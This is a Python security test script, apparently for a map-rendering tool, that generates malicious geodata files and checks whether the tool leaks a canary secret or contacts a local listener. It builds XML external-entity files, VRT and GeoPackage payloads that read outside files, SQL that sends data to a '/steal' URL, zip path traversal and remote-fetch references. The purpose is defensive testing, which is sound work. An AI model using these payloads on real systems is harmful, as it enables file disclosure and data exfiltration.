#!/usr/bin/env python3
"""hostile.py BORDERMAP WATCH.so: files that speak of other files and of addresses, as --overlay, --relief, import and style.

A listener on 127.0.0.1 must not be hit, no file outside the folder of the input may be opened (watch.c), nothing of it may be
on the map, nothing may be left beside the input, and the program ends in time with an exit code of its own.
"""
import http.server, os, sqlite3, struct, subprocess, sys, tempfile, threading, zipfile

PROGRAM, WATCH = os.path.abspath(sys.argv[1]), "none" if sys.argv[2] == "none" else os.path.abspath(sys.argv[2])
HITS = []


class Listener(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        HITS.append(self.path)
        self.send_response(404)
        self.end_headers()
    do_HEAD = do_POST = do_GET

    def log_message(self, *_):
        pass


SERVER = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
threading.Thread(target=SERVER.serve_forever, daemon=True).start()
HOST = "127.0.0.1:%d" % SERVER.server_port
TOP = tempfile.mkdtemp()
OUT, IN = TOP + "/canary-elsewhere", TOP + "/in"
SECRET = "SECRETWORD"
os.makedirs(OUT)
os.makedirs(IN)
with open(OUT + "/secret.csv", "w") as file:
    file.write("name,lon,lat\n%s,70.8,40.06\n" % SECRET)
POINT = '{"type":"Feature","properties":{"name":"a"},"geometry":{"type":"Point","coordinates":[70.8,40.06]}}'


def put(name, content):
    with open(os.path.join(IN, name), "wb") as out:
        out.write(content if isinstance(content, bytes) else content.encode())
    return name


def vrt(source):
    return ('<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>%s</SrcDataSource><GeometryType>wkbPoint</GeometryType>'
            '<GeometryField encoding="PointFromColumns" x="lon" y="lat"/></OGRVRTLayer></OGRVRTDataSource>' % source)


def pointers():
    """Texts under other endings that only say where data is."""
    inside = vrt(OUT + "/secret.csv")
    for ending in ("gpkg", "geojson", "csv", "kml", "gml", "json", "fgb", "tab", "dxf", "gpx", "shp", "osm", "xlsx", "txt", "vrt"):
        yield put("vrt." + ending, inside)
    yield put("bom.geojson", b"\xef\xbb\xbf \n" + inside.encode())
    yield put("comment.gpkg", "<!-- " + "x" * 3000 + " -->" + inside)
    for number, source in enumerate(("/vsicurl/http://%s/a.geojson", "http://%s/a.geojson", "WFS:http://%s/wfs", "/vsizip//vsicurl/http://%s/a.zip")):
        yield put("net%d.gpkg" % number, vrt(source % HOST))
    yield put("sql.gpkg", '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>%s/secret.csv</SrcDataSource><SrcSQL dialect="SQLITE">select '
              "ogr_geocode(name,'geometry','QUERY_TEMPLATE=http://%s/steal?q=%%s','SERVICE=X') from secret</SrcSQL></OGRVRTLayer></OGRVRTDataSource>" % (OUT, HOST))
    yield put("wfs.gml", "<OGRWFSDataSource><URL>http://%s/wfs</URL></OGRWFSDataSource>" % HOST)
    yield put("view.tab", '!table\n!version 100\nopen table "%s/secret" hide\ncreate view x as select * from secret\n' % OUT)
    yield put("seamless.tab", '!table\n!version 300\nDefinition Table\n  Type NATIVE\nbegin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n')
    yield put("wms.tif", '<GDAL_WMS><Service name="TMS"><ServerUrl>http://%s/${z}/${x}/${y}.png</ServerUrl></Service></GDAL_WMS>' % HOST)
    yield put("vrt.tif", '<VRTDataset rasterXSize="36" rasterYSize="18"><SRS>EPSG:4326</SRS><GeoTransform>-180, 10, 0, 90, 0, -10</GeoTransform><VRTRasterBand '
              'dataType="Int16" band="1"><SimpleSource><SourceFilename relativeToVRT="0">/vsicurl/http://%s/relief.tif</SourceFilename><SourceBand>1</SourceBand>'
              '</SimpleSource></VRTRasterBand></VRTDataset>' % HOST)


def texts():
    """Data that names more: schemas, entities, systems of reference, links."""
    features = '{"type":"FeatureCollection","crs":%s,"features":[' + POINT + "]}"
    yield put("link.geojson", features % ('{"type":"link","properties":{"href":"http://%s/crs","type":"proj4"}}' % HOST))
    yield put("url.geojson", features % ('{"type":"name","properties":{"name":"http://%s/crs"}}' % HOST))
    yield put("grids.geojson", features % ('{"type":"name","properties":{"name":"+proj=utm +zone=42 +ellps=WGS84 +nadgrids=%s/secret.csv"}}' % OUT))
    yield put("init.geojson", features % ('{"type":"name","properties":{"name":"+init=%s/secret.csv:x"}}' % OUT))
    gml = ('<?xml version="1.0"?>%s<ogr:FeatureCollection xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" '
           'xsi:schemaLocation="http://x http://' + HOST + '/wfs?service=WFS&amp;request=DescribeFeatureType" xmlns:ogr="http://x" xmlns:gml="http://www.opengis.net/gml">'
           '<gml:featureMember><ogr:a fid="a.1"><ogr:name>%s</ogr:name><ogr:geometryProperty%s><gml:Point srsName="%s"><gml:coordinates>70.8,40.06</gml:coordinates>'
           '</gml:Point></ogr:geometryProperty></ogr:a></gml:featureMember></ogr:FeatureCollection>')
    yield put("schema.gml", gml % ("", "a", "", "EPSG:4326"))
    yield put("system.gml", gml % ("", "a", "", "http://%s/crs" % HOST))
    yield put("xlink.gml", gml % ("", "a", ' xlink:href="http://%s/x#a"' % HOST, "EPSG:4326"))
    for number, target in enumerate(("http://%s/entity" % HOST, OUT + "/secret.csv")):
        doctype = '<!DOCTYPE a [<!ENTITY e SYSTEM "%s">]>' % target
        yield put("entity%d.gml" % number, gml % (doctype, "&e;", "", "EPSG:4326"))
        yield put("entity%d.gpx" % number, '<?xml version="1.0"?>%s<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="40.06" lon="70.8"><name>&e;</name></wpt></gpx>' % doctype)
        yield put("entity%d.kml" % number, '<?xml version="1.0"?>%s<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&e;</name><Point><coordinates>70.8,40.06</coordinates></Point></Placemark></Document></kml>' % doctype)
    yield put("network.kml", '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>http://%s/a.kml</href></Link></NetworkLink><NetworkLink><Link><href>../canary-elsewhere/'
              'secret.csv</href></Link></NetworkLink><Placemark><styleUrl>http://%s/s.kml#a</styleUrl><Point><coordinates>70.8,40.06</coordinates></Point></Placemark></Document></kml>' % (HOST, HOST))


def database(name, statements, row="INSERT INTO gpkg_contents VALUES('x','features','x','x','2020-01-01T00:00:00Z',NULL,NULL,NULL,NULL,4326)"):
    path = os.path.join(IN, name)
    base = sqlite3.connect(path)
    base.executescript("""PRAGMA application_id=1196444487; PRAGMA user_version=10200;
        CREATE TABLE gpkg_spatial_ref_sys(srs_name TEXT,srs_id INTEGER PRIMARY KEY,organization TEXT,organization_coordsys_id INTEGER,definition TEXT,description TEXT);
        INSERT INTO gpkg_spatial_ref_sys VALUES('WGS 84',4326,'EPSG',4326,'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]','');
        CREATE TABLE gpkg_contents(table_name TEXT PRIMARY KEY,data_type TEXT,identifier TEXT,description TEXT,last_change TEXT,min_x REAL,min_y REAL,max_x REAL,max_y REAL,srs_id INTEGER);
        CREATE TABLE gpkg_geometry_columns(table_name TEXT,column_name TEXT,geometry_type_name TEXT,srs_id INTEGER,z INTEGER,m INTEGER);
        CREATE TABLE plain(fid INTEGER PRIMARY KEY, name TEXT, geom BLOB); INSERT INTO gpkg_geometry_columns VALUES('x','geom','GEOMETRY',4326,0,0);
        INSERT INTO plain VALUES(1,'a',X'47500001E6100000010100000033333333B35140407B14AE47E1074440');""")
    base.executescript(row + ";PRAGMA writable_schema=ON;")
    for kind, table, sql in statements:
        base.execute("INSERT INTO sqlite_master VALUES(?,?,?,0,?)", (kind, table, table, sql))
    base.commit()
    base.close()
    return name


def databases():
    yield database("virtual.gpkg", [("table", "x", "CREATE VIRTUAL TABLE x USING VirtualOGR('/vsicurl/http://%s/a.geojson')" % HOST)])
    yield database("text.gpkg", [("table", "x", "CREATE VIRTUAL TABLE x USING VirtualText('%s/secret.csv', UTF-8, 1, POINT, DOUBLEQUOTE, ',')" % OUT)])
    yield database("hidden.gpkg", [("table", "x", "CREATE  VIRTUAL\tTABLE x /* using rtree( */ USING VirtualText('%s/secret.csv', UTF-8, 1, POINT, DOUBLEQUOTE, ',')" % OUT)])
    yield database("named.gpkg", [("table", "a using rtree(", "CREATE VIRTUAL TABLE \"a using rtree(\" USING VirtualText('%s/secret.csv', UTF-8, 1, POINT, DOUBLEQUOTE, ',')" % OUT),
                                  ("view", "x", "CREATE VIEW x AS SELECT 1 AS fid, * FROM \"a using rtree(\"")])
    yield database("view.gpkg", [("view", "x", "CREATE VIEW x AS SELECT fid, ogr_geocode(name,'geometry','QUERY_TEMPLATE=http://%s/steal?q=%%s','SERVICE=X') AS geom FROM plain" % HOST)])
    yield database("load.gpkg", [("view", "x", "CREATE VIEW x AS SELECT fid, geom, ogr_datasource_load_layers('%s/secret.csv') AS n FROM plain" % OUT)])
    yield database("blob.gpkg", [("view", "x", "CREATE VIEW x AS SELECT fid, geom, BlobFromFile('%s/secret.csv') AS n FROM plain" % OUT)])
    yield database("computed.gpkg", [("table", "x", "CREATE TABLE x(fid INTEGER PRIMARY KEY, geom BLOB, n TEXT AS (ogr_geocode('a','geometry','QUERY_TEMPLATE=http://%s/q=%%s','SERVICE=X')))" % HOST)])


def tiff(name, metadata, proj4=None):
    """36 × 18 cells of 0 from 180 W 90 N, with the tag 42112 of GDAL."""
    text, pixels = metadata.encode() + b"\0", struct.pack("<h", 500) * 36 * 18
    data = {33550: (12, struct.pack("<3d", 10, 10, 0)), 33922: (12, struct.pack("<6d", 0, 0, 0, -180, 90, 0)),
            34735: (3, struct.pack("<16H", 1, 1, 0, 3, 1024, 0, 1, 2, 1025, 0, 1, 1, 2048, 0, 1, 4326)), 42112: (2, text)}
    tags = {256: 36, 257: 18, 258: 16, 259: 1, 262: 1, 277: 1, 278: 18, 279: len(pixels), 339: 2}
    count, at = len(tags) + len(data) + 1, 8
    rest = 8 + 2 + count * 12 + 4
    entries = {tag: struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags.items()}
    body = b""
    for tag, (kind, content) in data.items():
        size = {2: 1, 3: 2, 12: 8}[kind]
        entries[tag] = struct.pack("<HHII", tag, kind, len(content) // size, rest + len(body))
        body += content + b"\0" * (len(content) % 2)
    entries[273] = struct.pack("<HHII", 273, 4, 1, rest + len(body))
    return put(name, struct.pack("<2sHI", b"II", 42, at) + struct.pack("<H", count) + b"".join(entries[tag] for tag in sorted(entries)) + b"\0\0\0\0" + body + pixels)


def rasters():
    for number, target in enumerate((OUT + "/secret.tif", "/vsicurl/http://%s/o.tif" % HOST)):
        item = '<GDALMetadata><Item name="OVERVIEW_FILE" domain="OVERVIEWS">%s</Item></GDALMetadata>' % target
        yield tiff("overview%d.tif" % number, item)
        put("beside%d.tif.aux.xml" % number, '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">%s</MDI></Metadata></PAMDataset>' % target)
        put("beside%d.tif.ovr" % number, '<VRTDataset rasterXSize="18" rasterYSize="9"><VRTRasterBand dataType="Int16" band="1"><SimpleSource><SourceFilename>%s</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>' % target)
        put("beside%d.tif.msk" % number, open(os.path.join(IN, "beside%d.tif.ovr" % number), "rb").read())
        yield tiff("beside%d.tif" % number, "<GDALMetadata></GDALMetadata>")


def packed():
    """The same within a zip file, and a zip file within a zip file."""
    for name in ("vrt.geojson", "net0.gpkg", "virtual.gpkg", "view.gpkg", "schema.gml", "entity1.kml", "view.tab"):
        with zipfile.ZipFile(os.path.join(IN, name + ".zip"), "w") as archive:
            archive.write(os.path.join(IN, name), "folder/" + name)
        yield name + ".zip"
    with zipfile.ZipFile(os.path.join(IN, "nested.zip"), "w") as archive:
        archive.write(os.path.join(IN, "vrt.geojson.zip"), "inner.zip")
    yield "nested.zip"
    with zipfile.ZipFile(os.path.join(IN, "up.zip"), "w") as archive:
        archive.writestr("../../canary-elsewhere/secret.csv", "a,b\n")
    yield "up.zip"


def others():
    os.mkfifo(os.path.join(IN, "pipe.geojson"))
    yield "pipe.geojson"
    yield "/dev/zero"
    for name in ("PG:host=127.0.0.1 port=%d" % SERVER.server_port, "WFS:http://%s/wfs" % HOST, "http://%s/a.geojson" % HOST, "/vsicurl/http://%s/a.geojson" % HOST,
                 "/vsizip//vsicurl/http://%s/a.zip" % HOST, "GEOJSON:http://%s/a" % HOST, "CSV:%s/secret.csv" % OUT, '{"type":"Point","coordinates":[70,40]}',
                 vrt(OUT + "/secret.csv").replace(",", ";")):
        yield name


def styles():
    with open(OUT + "/secret.json", "w") as out:
        out.write('{"name": "%s"}' % SECRET)
    for number, said in enumerate(("../canary-elsewhere/secret.json", OUT + "/secret.json", "./../canary-elsewhere/secret.json")):
        yield put("style%d.json" % number, '{"extends": "%s"}' % said)
    os.makedirs(IN + "/deeper", exist_ok=True)
    yield put("style.json", '{"extends": "./deeper/../../canary-elsewhere/secret.json"}')


def listing():
    return sorted(os.path.join(folder, name) for folder, _, names in os.walk(IN) for name in names)


def run(arguments):
    log = TOP + "/watch.log"
    if os.path.exists(log):
        os.unlink(log)
    environment = dict(os.environ, BORDERMAP_USER_DATA="", LD_PRELOAD=WATCH, WATCH_LOG=log, WATCH_FOR="canary")
    if WATCH == "none":
        del environment["LD_PRELOAD"]
    try:
        done = subprocess.run([PROGRAM] + arguments, env=environment, cwd=IN, capture_output=True, timeout=120, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        return "does not end"
    said = open(log).read() if os.path.exists(log) else ""
    if done.returncode not in (0, 1, 2):
        return "exit %d: %s" % (done.returncode, done.stderr.decode()[-300:])
    if done.returncode and not done.stderr:
        return "exit %d without a word" % done.returncode
    if said:
        return "opened: " + said
    return "shows the secret" if SECRET.encode() in done.stdout + done.stderr else None


def main():
    bad = 0
    frame = ["map", "--bbox", "70.6,39.9,71,40.2", "--show", "scene"]
    overlays = [*pointers(), *texts(), *databases(), *packed(), *others()]
    reliefs = [name for name in overlays if name.startswith(("vrt.", "wms", "net0", "pipe", "/", "http", "PG"))] + list(rasters())
    before = None
    cases = [(frame + ["--overlay", name + ("" if "=" in name else ",label=name")], name) for name in overlays]
    cases += [(frame + ["--relief", name], name) for name in reliefs]
    cases += [(["geodata", "import", name, "--map", "name=name", "--user-data", TOP + "/user", "--name", "t"], name) for name in overlays]
    cases += [(frame + ["--style", "./" + name], name) for name in styles()]
    with open(IN + "/canary-overlay.geojson", "w") as file: # an input of that name is opened, and the watcher must see it
        file.write('{"type":"FeatureCollection","features":[]}')
    seen = run(frame + ["--overlay", "canary-overlay.geojson"])
    os.unlink(IN + "/canary-overlay.geojson")
    if WATCH != "none" and not (seen or "").startswith("opened"):
        print("the watcher sees nothing: %s" % seen)
        return 1
    before = listing()
    for arguments, name in cases:
        hits = len(HITS)
        wrong = run(arguments)
        if len(HITS) > hits:
            wrong = "asked the listener: %s" % HITS[hits:]
        if listing() != before:
            wrong = "left %s" % (set(listing()) ^ set(before))
            before = listing()
        if wrong:
            bad += 1
            print("%s %s: %s" % (arguments[0 if arguments[0] != "map" else -2], name[:60], wrong))
    print("%d runs, %d bad, %d hits" % (len(cases), bad, len(HITS)))
    return 1 if bad or HITS else 0


if __name__ == "__main__":
    sys.exit(main())
